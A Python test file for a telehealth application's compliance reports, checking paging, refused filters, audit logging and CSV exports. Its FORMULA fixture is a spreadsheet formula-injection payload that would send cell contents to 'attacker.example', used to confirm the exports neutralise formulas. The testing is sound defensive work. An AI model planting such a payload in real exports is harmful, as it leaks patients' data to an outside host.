"""The compliance reports through HTTP: pages and API pages with keyset paging, CSV exports
(streamed, formulas neutralised), refused filters (422 page or JSON, nothing read), and the
audit event of each read and export."""
import csv
import io
from datetime import date, timedelta

import pytest

from telehealth.accounts.models import Role
from telehealth.audit.models import AuditAction
from telehealth.dispensing.models import Dispensing
from tests.conftest import log_in
from tests.flows.api import ERROR_SHAPE, audited, token_for
from tests.integration import compliance_world

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'


@pytest.fixture
def world(session, make, app, clock):
    return compliance_world.build(session, make, app, clock, gale_name=FORMULA)


@pytest.fixture
def officer(make):
    return make.user(Role.COMPLIANCE)


@pytest.fixture
def api(client, officer, world):
    headers = token_for(client, officer)
    return lambda path, **kwargs: client.get(path, headers=headers, **kwargs)


def rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_the_dispensing_log_api_pages_by_key(api, world):
    first = api("/api/v1/compliance/dispensing-log?size=2")
    assert first.status_code == 200 and len(first.json["items"]) == 2
    after = first.json["next_after"]
    assert after == first.json["items"][-1]["dispensing_id"]
    rest = api(f"/api/v1/compliance/dispensing-log?size=2&after={after}")
    assert [item["lot_number"] for item in rest.json["items"]] == ["LOT-B"] and rest.json["next_after"] is None
    assert first.json["items"][1]["patient"] == "Remy Stone"
    assert first.json["items"][1]["prescriber_dea_number"] == "AB1234563"


def test_the_reconciliation_api_gives_the_figures(api, world):
    lots = api("/api/v1/compliance/reconciliation/lots").json["items"]
    assert [(lot["lot"], lot["expected_on_hand"], lot["discrepancy"]) for lot in lots] == [("LOT-A", 9, -1),
                                                                                            ("LOT-B", 6, None)]
    rx = api(f"/api/v1/compliance/reconciliation/prescriptions?patient={world.remy.id}").json["items"]
    assert [(line["prescription"], line["last_reported_on_hand"], line["expected_at_report"]) for line in rx] \
        == [(world.rx2.id, 4, 5)]


def test_the_escalation_statistics_api(api, world):
    found = api("/api/v1/compliance/escalation-statistics").json
    # Remy's receipt (7 of 8) and both counts raised compliance escalations; none acknowledged.
    assert found["all"] == [{"group": "all", "value": "all", "escalations": 3, "acknowledged": 0, "resolved": 0,
                             "median": None, "p90": None, "mean": None, "max": None}]


@pytest.mark.parametrize("query, field", [
    ("start=2026-13-01", "start"), ("start=yesterday", "start"), ("start=2026-11-23&end=2026-11-20", "end"),
    ("colour=blue", "colour"), ("size=0", "size"), ("size=501", "size"), ("after=-1", "after"),
    ("patient=abc", "patient"), ("prescriber=0", "prescriber"), ("lot=" + "X" * 41, "lot"),
])
def test_a_bad_filter_is_a_422_naming_the_field_and_nothing_is_read(api, session, world, query, field):
    for path in ("/api/v1/compliance/dispensing-log", "/api/v1/compliance/reconciliation/lots.csv"):
        response = api(f"{path}?{query}")
        assert response.status_code == 422 and set(response.json) == ERROR_SHAPE, path
        assert field in response.json["errors"], response.json
    assert audited(session, AuditAction.REPORT_READ) == audited(session, AuditAction.REPORT_EXPORTED) == []


def test_escalation_statistics_refuse_a_lot(api, session, world):
    response = api("/api/v1/compliance/escalation-statistics?lot=LOT-A")
    assert response.status_code == 422
    assert response.json["errors"] == {"lot": ["This report cannot be filtered by this."]}
    assert audited(session, AuditAction.REPORT_READ) == []


def test_a_bad_filter_on_a_page_is_a_422_with_the_messages_and_nothing_is_read(client, session, officer, world):
    log_in(client, officer.email)
    backwards = client.get("/compliance/reconciliation/prescriptions?start=2026-11-23&end=2026-11-20")
    unknown = client.get("/compliance/reconciliation/prescriptions?shoe=9")
    assert backwards.status_code == unknown.status_code == 422
    assert "The last day is before the first day." in backwards.get_data(as_text=True)
    assert "shoe: Unknown field." in unknown.get_data(as_text=True)
    assert "Remy Stone" not in backwards.get_data(as_text=True) + unknown.get_data(as_text=True)
    assert client.get("/compliance/dispensing-log.csv?end=someday").status_code == 422
    assert audited(session, AuditAction.REPORT_READ) == audited(session, AuditAction.REPORT_EXPORTED) == []


def test_the_page_links_to_the_next_page_with_the_same_filters(client, officer, world):
    log_in(client, officer.email)
    page = client.get(f"/compliance/dispensing-log?size=1&patient={world.gale.id}").get_data(as_text=True)
    assert f"/compliance/dispensing-log?size=1&amp;patient={world.gale.id}&amp;after=" in page


def test_a_page_read_is_audited_with_its_filters(client, session, officer, world):
    log_in(client, officer.email)
    assert client.get("/compliance/reconciliation/lots?lot=LOT-A&start=2026-11-20").status_code == 200
    event, = audited(session, AuditAction.REPORT_READ)
    assert event.actor_user_id == officer.id and event.object_id == "reconciliation_by_lot"
    assert event.details["filters"] == {"lot_number": "LOT-A", "start_on": "2026-11-20"}
    assert event.client_address == "127.0.0.1"


def test_the_dashboard_and_its_verification_are_audited(client, session, officer, world):
    log_in(client, officer.email)
    assert "Audit chain" in client.get("/compliance").get_data(as_text=True)
    page = client.get("/compliance/audit-chain/verification").get_data(as_text=True)
    # Inside the test's transaction nothing is sealed, and the clock is days past the first events.
    assert "Chain broken" in page and "still not sealed" in page
    assert [event.object_id for event in audited(session, AuditAction.REPORT_READ)] == ["audit_chain", "audit_chain"]
    verified, = audited(session, AuditAction.AUDIT_CHAIN_VERIFIED)
    assert verified.details["ok"] is False and "still not sealed" in verified.details["first_problem"]


def test_the_dispensing_log_export_neutralises_formulas(client, session, officer, world, clock):
    # A lot written before the lot rule existed (the rule refuses this one today): still neutralised.
    session.add(Dispensing(prescription_id=world.rx2.id, fill_number=2, quantity=8, lot_number="-2+3",
                           lot_expiry=date(2027, 1, 1), pharmacist_id=world.pharmacist.id,
                           dispensed_at=clock.now() + timedelta(hours=1)))
    session.commit()
    log_in(client, officer.email)
    response = client.get("/compliance/dispensing-log.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="dispensing-log.csv"'
    header, *lines = rows(response)
    assert header[3:5] == ["patient", "patient_address"]
    assert lines[0][3] == "'" + FORMULA
    assert lines[-1][header.index("lot")] == "'-2+3"
    assert all(not cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line[3:])
    exported = audited(session, AuditAction.REPORT_EXPORTED)
    assert {event.object_id for event in exported} == {"dispensing_log"}
    assert sorted(event.patient_id for event in exported) == sorted([world.gale.id, world.remy.id])


def test_an_address_that_starts_with_a_formula_is_neutralised(client, session, officer, world):
    world.gale.address_line1 = "+1 Formula Way"
    session.commit()
    log_in(client, officer.email)
    header, *lines = rows(client.get(f"/compliance/dispensing-log.csv?patient={world.gale.id}"))
    assert {line[header.index("patient_address")] for line in lines} == {"'+1 Formula Way, Springfield, IL 62701"}


def test_the_reconciliation_export_keeps_negative_numbers_as_numbers(client, officer, world):
    log_in(client, officer.email)
    header, *lines = rows(client.get("/compliance/reconciliation/prescriptions.csv"))
    assert header == ["prescription", "patient", "prescriber", "drug", "strength_mg", "issued_on", "prescribed",
                      "dispensed", "opening", "received", "taken", "wasted", "returned", "corrected",
                      "expected_on_hand", "last_reported_on_hand", "reported_at", "expected_at_report", "discrepancy"]
    assert lines[0][1] == "'" + FORMULA and lines[0][-1] == "-1" and lines[1][-1] == "-1"


# --- the audit log ------------------------------------------------------------------------------

def test_the_audit_log_shows_who_read_a_patients_record(app, client, session, officer, world):
    prescriber = app.test_client()
    log_in(prescriber, world.bell.email)
    assert prescriber.get(f"/patients/{world.remy.id}").status_code == 200
    log_in(client, officer.email)
    page = client.get(f"/compliance/audit-log?patient={world.remy.id}&action=patient.record_read")
    assert page.status_code == 200
    shown = page.get_data(as_text=True)
    assert "Bell Prescriber" in shown and "patient.record_read" in shown and "Remy Stone" in shown
    assert "127.0.0.1" in shown and "awaiting" in shown
    event, = audited(session, AuditAction.REPORT_READ)
    assert (event.object_id, event.patient_id) == ("audit_log", world.remy.id)


def test_the_audit_log_api_pages_by_event(api, world):
    first = api(f"/api/v1/compliance/audit-log?patient={world.gale.id}&size=2")
    assert first.status_code == 200 and len(first.json["items"]) == 2
    assert first.json["next_after"] == first.json["items"][-1]["event_id"]
    assert {item["patient_id"] for item in first.json["items"]} == {world.gale.id}
    rest = api(f"/api/v1/compliance/audit-log?patient={world.gale.id}&size=2&after={first.json['next_after']}")
    assert rest.status_code == 200 and rest.json["items"][0]["event_id"] > first.json["next_after"]


def test_the_audit_log_export_neutralises_formulas(client, officer, world):
    log_in(client, officer.email)
    response = client.get(f"/compliance/audit-log.csv?patient={world.gale.id}")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="audit-log.csv"'
    header, *lines = rows(response)
    assert header[:6] == ["event", "occurred_on", "occurred_at_utc", "actor_user_id", "actor", "action"]
    assert lines and {line[header.index("patient")] for line in lines} == {"'" + FORMULA}


@pytest.mark.parametrize("query, field, message", [
    ("action=patient.eaten", "action", "Must be one of"), ("lot=LOT-A", "lot", "cannot be filtered by this"),
    ("prescriber=1", "prescriber", "cannot be filtered by this"), ("actor=abc", "actor", "Not a valid integer"),
])
def test_the_audit_log_refuses_a_filter_it_does_not_take(api, session, world, query, field, message):
    for path in ("/api/v1/compliance/audit-log", "/api/v1/compliance/audit-log.csv"):
        response = api(f"{path}?{query}")
        assert response.status_code == 422, path
        assert message in " ".join(response.json["errors"][field])
    assert audited(session, AuditAction.REPORT_READ) == audited(session, AuditAction.REPORT_EXPORTED) == []


def test_other_reports_refuse_the_audit_logs_filters(api, session, world):
    for query in ("actor=1", "action=patient.record_read"):
        response = api(f"/api/v1/compliance/dispensing-log?{query}")
        assert response.status_code == 422
        assert list(response.json["errors"].values()) == [["This report cannot be filtered by this."]]


# --- every patient a report names sees the read among their record's reads ----------------------

def test_a_dispensing_log_page_is_audited_once_per_patient_it_shows(client, session, officer, world):
    log_in(client, officer.email)
    assert client.get("/compliance/dispensing-log").status_code == 200
    reads = audited(session, AuditAction.REPORT_READ)
    assert sorted(event.patient_id for event in reads) == sorted([world.gale.id, world.remy.id])
    assert {event.object_id for event in reads} == {"dispensing_log"}


def test_a_reconciliation_export_per_prescription_names_its_patients_and_per_lot_nobody(client, session, officer,
                                                                                       world):
    log_in(client, officer.email)
    assert client.get("/compliance/reconciliation/prescriptions.csv").status_code == 200
    assert client.get("/compliance/reconciliation/lots.csv").status_code == 200
    exported = audited(session, AuditAction.REPORT_EXPORTED)
    assert sorted((event.object_id, event.patient_id or 0) for event in exported) == sorted([
        ("reconciliation_by_prescription", world.gale.id), ("reconciliation_by_prescription", world.remy.id),
        ("reconciliation_by_lot", 0)])


def test_a_page_that_shows_nobody_is_still_audited_once(client, session, officer, world):
    log_in(client, officer.email)
    assert client.get("/compliance/dispensing-log?start=2030-01-01").status_code == 200
    read, = audited(session, AuditAction.REPORT_READ)
    assert read.patient_id is None and read.details["filters"] == {"start_on": "2030-01-01"}


def test_the_audit_log_page_shows_a_refused_filter_by_its_field(client, session, officer, world):
    log_in(client, officer.email)
    response = client.get("/compliance/audit-log?action=patient.eaten&lot=LOT-A")
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "Must be one of" in page and "lot: This report cannot be filtered by this." in page
    assert audited(session, AuditAction.REPORT_READ) == []
